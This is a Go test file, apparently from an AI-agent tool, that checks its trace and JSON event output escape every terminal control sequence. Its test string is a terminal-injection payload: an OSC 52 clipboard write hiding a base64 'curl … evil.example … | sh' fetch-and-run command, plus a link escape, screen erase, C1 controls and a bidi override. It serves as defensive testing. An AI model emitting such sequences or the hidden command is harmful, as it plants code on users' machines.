package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"reflect"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/reinhq/rein/agent"
	"github.com/reinhq/rein/audit"
	"github.com/reinhq/rein/gate"
	"github.com/reinhq/rein/tool/mail"
)

// evil drives a terminal: OSC 52 (clipboard), OSC 8 (link), SGR 8
// (conceal), CSI erase, a DCS, C1 controls as runes and as raw bytes, a
// bidi override, DEL, a carriage return.
const evil = "a\x1b]52;c;Y3VybCAtcyBldmlsLmV4YW1wbGUvaXxzaA==\x07" +
	"\x1b]8;;http://evil.example\x1b\\l\x1b[8m\x1b[2J\x1bPq\x1b\\" +
	"\u009b31m\u009d0;t\u009c\x9b2J\u202eb\x7f\rc"

// assertSafe fails when out holds a byte a terminal acts on: ESC, any C0
// but newline, DEL, C1 (as a rune or a raw byte), a bidi control, or
// invalid UTF-8.
func assertSafe(t *testing.T, what, out string) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s: invalid UTF-8 reaches the terminal:\n%q", what, out)
	}
	for _, r := range out {
		if (r < 0x20 && r != '\n') || (r >= 0x7f && r <= 0x9f) || unicode.Is(unicode.Bidi_Control, r) {
			t.Errorf("%s: %U reaches the terminal:\n%q", what, r, out)
			return
		}
	}
}

// fill sets every string (and []string, and json.RawMessage) field of the
// struct v points to to evil, so a field added later is covered too.
func fill(v any) {
	rv := reflect.ValueOf(v).Elem()
	for i := range rv.NumField() {
		f := rv.Field(i)
		if !f.CanSet() {
			continue
		}
		switch {
		case f.Type() == reflect.TypeFor[json.RawMessage]():
			raw, _ := json.Marshal(map[string]string{evil: evil})
			f.Set(reflect.ValueOf(json.RawMessage(raw)))
		case f.Kind() == reflect.String:
			f.SetString(evil)
		case f.Kind() == reflect.Slice && f.Type().Elem().Kind() == reflect.String:
			f.Set(reflect.ValueOf([]string{evil, evil}).Convert(f.Type()))
		}
	}
}

// Attack: the live trace and the summary print no terminal control from a
// model, a tool, a file name or a server, whatever field it is in.
func TestTraceEscapesEveryField(t *testing.T) {
	t.Parallel()
	var out bytes.Buffer
	tr := &tracer{w: &out, auditDir: evil}
	for _, typ := range []audit.Type{audit.SessionStart, audit.ModelCall, audit.Verdict, audit.Intent, audit.Result, audit.Abort, audit.Stop} {
		for _, variant := range []func(*audit.Record){
			func(*audit.Record) {},
			func(r *audit.Record) { r.Error = "" },
			func(r *audit.Record) { r.Decision, r.Gate = audit.DecisionOf(gate.Deny), evil },
			func(r *audit.Record) { r.Gate = gate.NameBudget },
			func(r *audit.Record) { r.Gate = gate.NameApproval },
			func(r *audit.Record) {
				r.Config = json.RawMessage(`{"model":"` + jsonEscape(evil) + `","tools":["` + jsonEscape(evil) + `"]}`)
			},
		} {
			r := audit.Record{}
			fill(&r)
			r.Type = typ
			variant(&r)
			tr.observe(r)
		}
	}
	o := &outcome{}
	fill(o)
	o.Result.Result = agent.Result{Stop: agent.StopReason(evil), Answer: evil, Refusals: map[string]int{evil: 1}, Err: errors.New(evil)}
	o.Outbox = []mail.Message{{To: evil, Subject: evil, Body: evil}}
	o.Changed = []string{evil}
	tr.summary(o)
	assertSafe(t, "trace", out.String())
	if !strings.Contains(out.String(), `\x1b]52;c;`) {
		t.Errorf("the trace does not show the escape it refused:\n%s", out.String())
	}

	var events bytes.Buffer
	w := eventWriter(&events)
	for _, typ := range []audit.Type{audit.ModelCall, audit.Verdict, audit.Result, audit.Stop} {
		r := audit.Record{}
		fill(&r)
		r.Type = typ
		w(r)
	}
	assertSafe(t, "--json events", events.String())
	for l := range strings.Lines(events.String()) {
		var e event
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatalf("an event is not JSON: %v\n%s", err, l)
		}
		// The same value, but for the raw byte, which encoding/json makes U+FFFD.
		if want := strings.ToValidUTF8(evil, "\ufffd"); e.Type != eventStop && e.Tool != want {
			t.Errorf("an event lost the value it escaped: %+v", e)
		}
	}
}

func jsonEscape(s string) string {
	b, _ := json.Marshal(s)
	return string(b[1 : len(b)-1])
}
